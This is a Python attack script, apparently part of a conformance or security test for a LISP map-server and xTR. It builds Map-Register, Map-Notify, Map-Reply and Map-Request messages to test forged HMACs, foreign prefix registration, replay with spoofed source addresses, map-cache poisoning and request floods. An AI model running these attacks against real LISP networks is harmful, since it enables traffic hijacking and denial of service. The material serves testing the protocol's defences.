#!/usr/bin/python3
"""The attacker of the LISP control-abuse test: builds LISP control messages by hand and sends them to UDP 4342.

    lisp_attacker.py CASE --to ADDRESS [options]

Everything here is laid out from RFC 9301 (5.2 Map-Request, 5.6 Map-Register, 5.7 Map-Notify, 5.8 ECM, 4.4 and the
mapping record/locator figures of 5.4) and RFC 8060 (LCAF Instance ID, type 2), with Python's own hmac/hashlib: none
of it comes from the code under test. The authentication data is the HMAC over the whole message with the
Authentication Data field zeroed, truncated: 12 bytes for key id 1 (HMAC-SHA-1-96), 16 for key id 2
(HMAC-SHA-256-128), or the whole digest (20, 32 bytes) as deployed stacks send it. The 16-bit Key ID field is read
as RFC 9301's Key ID (high octet) and Algorithm ID (low octet).

Cases (each prints one JSON line: what it sent):
  wrong-hmac   Map-Registers with the right key id (2) but signed with another key (truncated and whole digest),
               and one correctly signed then altered after signing (one locator byte)
  bad-length   Map-Registers with key id 2 and an authentication length that is neither of its forms (20: SHA-1's,
               and 0), the HMAC of the right key truncated to it
  unknown-key  Map-Registers signed with the site's key under key ids the map-server has no key for
  foreign      correctly signed Map-Registers for EID prefixes the site may not register (outside, wider, another
               instance id, and one mixing the site's own prefix with a foreign one)
  replay       a Map-Register the legitimate xTR sent (taken from a capture, the one the map-server answered with a
               Map-Notify), sent again: the captured IP packet as it was (source address spoofed) and its UDP
               payload from our own address; --notify also replays that Map-Notify to the xTR (spoofed from the
               map-server)
  notify       Map-Notifies signed with the xTR's key whose nonces match no Map-Register the xTR sent, spoofed from
               the map-server's address
  reply        unsolicited Map-Replies to the xTR (nonces it never sent) mapping an EID prefix to the attacker, and
               the same as RLOC-probe replies (P bit): map-cache poisoning, if it took them
  smr          Solicit-Map-Requests (S bit) to the xTR for EIDs it does not cache (10.9.N.0/24): followed, they
               would make it resolve and cache EIDs of our choosing
  garbage      truncated and malformed control messages (see GARBAGE)
  flood        --count plain Map-Requests as fast as the socket takes them (--pace to slow down); with --vary-itr
               each names another ITR-RLOC (198.18.0.0/15 upward) and asks for --eid: what an ETR must not
               remember without bound
"""
import argparse
import hashlib
import hmac
import ipaddress
import json
import os
import socket
import struct
import sys
import time

LISP_CONTROL_PORT = 4342
AFI_IPV4 = 1
AFI_LCAF = 16387
LCAF_INSTANCE_ID = 2
TYPE_MAP_REQUEST, TYPE_MAP_REGISTER, TYPE_MAP_NOTIFY, TYPE_ECM = 1, 3, 4, 8
WANT_MAP_NOTIFY = 0x01  # M bit, third octet of a Map-Register


def eid_address(prefix, instance_id=None):
    """EID-Prefix-AFI and EID-Prefix: a plain IPv4 address (AFI 1), or wrapped in an LCAF Instance ID (RFC 8060 4.1)."""
    network = ipaddress.IPv4Network(prefix, strict=False)
    plain = struct.pack("!H", AFI_IPV4) + network.network_address.packed
    if instance_id is None:
        return network.prefixlen, plain
    body = struct.pack("!I", instance_id) + plain
    # AFI 16387, Rsvd1, Flags, Type 2, IID mask-len 0, Length (of what follows), then the body.
    return network.prefixlen, struct.pack("!HBBBBH", AFI_LCAF, 0, 0, LCAF_INSTANCE_ID, 0, len(body)) + body


def mapping_record(prefix, rlocs, ttl_minutes=3, instance_id=None):
    """A mapping record (RFC 9301 5.4): TTL, locator count, mask-len, ACT/A, Map-Version, EID, then the locators."""
    mask_len, eid = eid_address(prefix, instance_id)
    record = struct.pack("!IBBHH", ttl_minutes, len(rlocs), mask_len, 0x1000, 0)  # ACT 0 (no action), A=1
    record += eid
    for rloc in rlocs:
        # Priority 1, Weight 100, M Priority 255, M Weight 0, flags L=0 p=0 R=1, Loc-AFI 1, Locator.
        record += struct.pack("!BBBBHH", 1, 100, 255, 0, 0x0001, AFI_IPV4) + ipaddress.IPv4Address(rloc).packed
    return record


def auth_length(key_id):
    return {0: 0, 1: 12, 2: 16}.get(key_id & 0xFF, 16)


def hmac_of(message, key_id, key, length):
    digest = hashlib.sha1 if key_id & 0xFF == 1 else hashlib.sha256
    return hmac.new(key.encode(), message, digest).digest()[:length]


def authenticated(first_word, nonce, key_id, key, records, length=None):
    """Map-Register / Map-Notify: first word, nonce, key id, auth length, auth data (HMAC of the zeroed message), records."""
    length = auth_length(key_id) if length is None else length
    head = first_word + struct.pack("!QHH", nonce, key_id, length)
    zeroed = head + bytes(length) + b"".join(records)
    return head + hmac_of(zeroed, key_id, key, length) + b"".join(records)


def map_register(nonce, key_id, key, records, want_notify=True, length=None):
    first = struct.pack("!BBBB", TYPE_MAP_REGISTER << 4, 0, WANT_MAP_NOTIFY if want_notify else 0, len(records))
    return authenticated(first, nonce, key_id, key, records, length)


def map_notify(nonce, key_id, key, records):
    return authenticated(struct.pack("!BBBB", TYPE_MAP_NOTIFY << 4, 0, 0, len(records)), nonce, key_id, key, records)


def map_request(nonce, itr_rloc, eid, smr=False):
    """A plain Map-Request (RFC 9301 5.2): no source EID (AFI 0), one ITR-RLOC (IRC 0), one record; S bit for an SMR."""
    mask_len, prefix = eid_address(eid)
    return (struct.pack("!BBBBQ", (TYPE_MAP_REQUEST << 4) | (0x01 if smr else 0), 0, 0, 1, nonce)
            + struct.pack("!H", 0)
            + struct.pack("!H", AFI_IPV4) + ipaddress.IPv4Address(itr_rloc).packed
            + struct.pack("!BB", 0, mask_len) + prefix)


def map_reply(nonce, records, probe=False):
    """Map-Reply (RFC 9301 5.4): Type 2, P (probe) bit, record count, nonce, records."""
    return struct.pack("!BBBBQ", (2 << 4) | (0x08 if probe else 0), 0, 0, len(records), nonce) + b"".join(records)


def nonce():
    return int.from_bytes(os.urandom(8), "big") | 1  # never 0: a zero nonce is exempt from the replay check


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4_udp(source, destination, payload, source_port=LISP_CONTROL_PORT, destination_port=LISP_CONTROL_PORT):
    """An IPv4/UDP packet with both checksums, for sending with a source address that is not ours."""
    src, dst = ipaddress.IPv4Address(source).packed, ipaddress.IPv4Address(destination).packed
    udp_length = 8 + len(payload)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_UDP, udp_length)
    udp = struct.pack("!HHHH", source_port, destination_port, udp_length, 0) + payload
    udp_sum = checksum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", udp_sum) + udp[8:]
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_length, 0x1234, 0x4000, 64, socket.IPPROTO_UDP, 0, src, dst)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + udp


class Sender:
    """UDP from our own address (source port 4342), and raw IP packets (spoofed sources) through IP_HDRINCL."""

    def __init__(self, to, pace):
        self.to = to
        self.pace = pace
        self.sent = 0
        self.udp = None
        self.raw = None

    def payload(self, message):
        if self.udp is None:
            self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self.udp.bind(("", LISP_CONTROL_PORT))
        self.udp.sendto(message, (self.to, LISP_CONTROL_PORT))
        self.count()

    def packet(self, ip_packet):
        if self.raw is None:
            self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.raw.sendto(ip_packet, (self.to, 0))
        self.count()

    def count(self):
        self.sent += 1
        if self.pace:
            time.sleep(self.pace)


def read_pcap(path):
    """(frame bytes) of a classic pcap file with Ethernet frames, as tcpdump -w writes it."""
    with open(path, "rb") as f:
        data = f.read()
    magic = data[:4]
    endian = "<" if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
    link_type = struct.unpack(endian + "I", data[20:24])[0]
    if link_type != 1:
        raise SystemExit(f"{path}: link type {link_type}, expected Ethernet (1)")
    offset, frames = 24, []
    while offset + 16 <= len(data):
        captured = struct.unpack(endian + "I", data[offset + 8:offset + 12])[0]
        if offset + 16 + captured > len(data):
            break  # tcpdump is still writing this one
        frames.append(data[offset + 16:offset + 16 + captured])
        offset += 16 + captured
    return frames


def lisp_packets(path):
    """(source, destination, IP packet, UDP payload) of every IPv4/UDP 4342 frame in the capture."""
    for frame in read_pcap(path):
        if len(frame) < 42 or frame[12:14] != b"\x08\x00" or frame[23] != socket.IPPROTO_UDP:
            continue
        ihl = (frame[14] & 0x0F) * 4
        total = struct.unpack("!H", frame[16:18])[0]
        ip = frame[14:14 + total]
        udp = ip[ihl:]
        if struct.unpack("!H", udp[2:4])[0] != LISP_CONTROL_PORT and struct.unpack("!H", udp[0:2])[0] != LISP_CONTROL_PORT:
            continue
        yield str(ipaddress.IPv4Address(ip[12:16])), str(ipaddress.IPv4Address(ip[16:20])), ip, udp[8:]


GARBAGE = [
    # (name, payload, what the map-server should call it: Malformed, or NotForUs for types it does not take)
    ("empty", b"", "Malformed"),
    ("register-1-byte", bytes([TYPE_MAP_REGISTER << 4]), "Malformed"),
    ("register-no-auth-field", struct.pack("!BBBBQ", TYPE_MAP_REGISTER << 4, 0, 1, 1, 7), "Malformed"),
    ("register-auth-length-65535", struct.pack("!BBBBQHH", TYPE_MAP_REGISTER << 4, 0, 1, 1, 7, 2, 0xFFFF) + bytes(16), "Malformed"),
    ("register-auth-length-12-for-key-id-2-record-missing", struct.pack("!BBBBQHH", TYPE_MAP_REGISTER << 4, 0, 1, 1, 7, 2, 12) + bytes(12), "Malformed"),
    ("register-3-records-none-there", struct.pack("!BBBBQHH", TYPE_MAP_REGISTER << 4, 0, 1, 3, 7, 2, 16) + bytes(16), "Malformed"),
    ("register-locator-count-200-none-there",
     struct.pack("!BBBBQHH", TYPE_MAP_REGISTER << 4, 0, 1, 1, 7, 2, 16) + bytes(16)
     + struct.pack("!IBBHHH", 3, 200, 24, 0x1000, 0, AFI_IPV4) + bytes([10, 1, 0, 0]), "Malformed"),
    ("request-cut-in-nonce", struct.pack("!BBBB", TYPE_MAP_REQUEST << 4, 0, 0, 1) + bytes(4), "Malformed"),
    ("request-31-itr-rlocs-none-there", struct.pack("!BBBBQH", TYPE_MAP_REQUEST << 4, 0, 30, 1, 7, 0), "Malformed"),
    ("ecm-cut-in-inner-ip-header", struct.pack("!BBBB", TYPE_ECM << 4, 0, 0, 0) + bytes([0x45, 0, 0, 60, 0, 0]), "Malformed"),
    ("type-0-reserved", bytes(24), "NotForUs"),
    ("type-13-unassigned", bytes([13 << 4]) + bytes(23), "NotForUs"),
]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("case", choices=["wrong-hmac", "bad-length", "unknown-key", "foreign", "replay", "notify", "reply", "smr", "garbage", "flood"])
    parser.add_argument("--to", required=True, help="where the messages go (UDP 4342)")
    parser.add_argument("--key", default="lab-key", help="the site's (or xTR's) key")
    parser.add_argument("--eid", default="10.1.0.0/24", help="the legitimate xTR's EID prefix")
    parser.add_argument("--rloc", default="192.0.2.66", help="the locator the attacker puts in its records (its own address)")
    parser.add_argument("--count", type=int, default=1, help="messages per variant (flood: messages in all)")
    parser.add_argument("--pcap", help="replay: the capture holding the legitimate register")
    parser.add_argument("--xtr", help="replay: the legitimate xTR's RLOC (the register's source)")
    parser.add_argument("--notify-to", help="replay: also replay the map-server's Map-Notify for it to this xTR")
    parser.add_argument("--spoof", help="notify: the source address to send from (the map-server's)")
    parser.add_argument("--pace", type=float, help="seconds between messages (default 0.002; flood: 0)")
    parser.add_argument("--vary-itr", action="store_true", help="flood: another ITR-RLOC in every request")
    args = parser.parse_args()

    pace = args.pace if args.pace is not None else 0 if args.case == "flood" else 0.002
    sender = Sender(args.to, pace)
    report = {"case": args.case, "variants": []}
    if args.case == "wrong-hmac":
        for _ in range(args.count):
            sender.payload(map_register(nonce(), 2, "not-the-" + args.key, [mapping_record(args.eid, [args.rloc])]))
            altered = bytearray(map_register(nonce(), 2, args.key, [mapping_record(args.eid, [args.rloc])]))
            altered[-1] ^= 0x01  # the locator's last byte, after signing
            sender.payload(bytes(altered))
            sender.payload(map_register(nonce(), 2, "not-the-" + args.key, [mapping_record(args.eid, [args.rloc])], length=32))
        report["variants"] = ["signed with another key", "altered after signing", "whole digest, another key"]
    elif args.case == "bad-length":
        for _ in range(args.count):
            for length in (20, 0):
                sender.payload(map_register(nonce(), 2, args.key, [mapping_record(args.eid, [args.rloc])], length=length))
        report["variants"] = ["key id 2, 20 bytes", "key id 2, no authentication data"]
    elif args.case == "unknown-key":
        # Key ID 1 / algorithm 2 (0x0102): a known algorithm under a key id nobody configured; key id 1 (SHA-1-96);
        # key id 7 (no algorithm we know; 16 bytes of authentication data).
        for _ in range(args.count):
            for key_id in (0x0102, 0x0001, 0x0007):
                sender.payload(map_register(nonce(), key_id, args.key, [mapping_record(args.eid, [args.rloc])]))
        report["variants"] = ["key id 0x0102", "key id 1", "key id 7"]
    elif args.case == "foreign":
        site_eid = args.eid
        for _ in range(args.count):
            sender.payload(map_register(nonce(), 2, args.key, [mapping_record("198.51.100.0/24", [args.rloc])]))
            sender.payload(map_register(nonce(), 2, args.key, [mapping_record("10.0.0.0/8", [args.rloc])]))
            sender.payload(map_register(nonce(), 2, args.key, [mapping_record(site_eid, [args.rloc], instance_id=77)]))
            sender.payload(map_register(nonce(), 2, args.key, [mapping_record(site_eid, [args.rloc]),
                                                               mapping_record("203.0.113.0/24", [args.rloc])]))
        report["variants"] = ["198.51.100.0/24", "10.0.0.0/8 (wider than the site)", f"{site_eid} in instance 77",
                              f"{site_eid} with our RLOC plus 203.0.113.0/24"]
    elif args.case == "replay":
        # The capture may be a moment behind the wire: look again for up to 5 s.
        deadline = time.monotonic() + 5
        while True:
            packets = list(lisp_packets(args.pcap))
            notifies = {payload[4:12]: ip for (src, dst, ip, payload) in packets
                        if src == args.to and dst == args.xtr and payload and payload[0] >> 4 == TYPE_MAP_NOTIFY}
            registers = [(ip, payload) for (src, dst, ip, payload) in packets
                         if src == args.xtr and dst == args.to and payload and payload[0] >> 4 == TYPE_MAP_REGISTER
                         and payload[4:12] in notifies]
            if registers or time.monotonic() > deadline:
                break
            time.sleep(0.2)
        if not registers:
            seen = [(src, dst, payload[:1].hex(), payload[4:12].hex()) for (src, dst, _, payload) in packets]
            raise SystemExit(f"no Map-Register from {args.xtr} answered by a Map-Notify in {args.pcap}: {seen}")
        ip, payload = registers[-1]
        sender.packet(ip)          # byte for byte, from the xTR's address
        sender.payload(payload)    # the same message from ours
        report["nonce"] = payload[4:12].hex()
        report["variants"] = ["captured IP packet, xTR's source address", "captured UDP payload, our address"]
        if args.notify_to:
            notify_sender = Sender(args.notify_to, pace)
            notify_sender.packet(notifies[payload[4:12]])
            report["notifySent"] = notify_sender.sent
    elif args.case == "notify":
        for _ in range(args.count):
            message = map_notify(nonce(), 2, args.key, [mapping_record(args.eid, [args.rloc])])
            if args.spoof:
                sender.packet(ipv4_udp(args.spoof, args.to, message))
            else:
                sender.payload(message)
        report["variants"] = ["signed, unknown nonce" + (f", from {args.spoof}" if args.spoof else "")]
    elif args.case == "reply":
        for _ in range(args.count):
            sender.payload(map_reply(nonce(), [mapping_record("10.9.0.0/16", [args.rloc], ttl_minutes=1440)]))
            sender.payload(map_reply(nonce(), [mapping_record("10.9.0.0/16", [args.rloc], ttl_minutes=1440)], probe=True))
        report["variants"] = ["Map-Reply 10.9.0.0/16 -> us, unknown nonce", "the same as an RLOC-probe reply"]
    elif args.case == "smr":
        for i in range(args.count):
            sender.payload(map_request(nonce(), args.rloc, "10.9.%d.0/24" % i, smr=True))
        report["variants"] = ["SMR for an EID the xTR does not cache"]
    elif args.case == "garbage":
        for _ in range(args.count):
            for _, payload, _ in GARBAGE:
                sender.payload(payload)
        report["variants"] = [name for name, _, _ in GARBAGE]
        report["expected"] = {reason: args.count * sum(1 for _, _, r in GARBAGE if r == reason) for reason in ("Malformed", "NotForUs")}
    elif args.case == "flood":
        started = time.monotonic()
        for i in range(args.count):
            if args.vary_itr:
                sender.payload(map_request(i + 1, str(ipaddress.IPv4Address("198.18.0.0") + i), args.eid))
            else:
                sender.payload(map_request(i + 1, args.rloc, "10.99.%d.0/24" % (i % 256)))
        report["seconds"] = round(time.monotonic() - started, 3)
    report["sent"] = sender.sent
    print(json.dumps(report))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
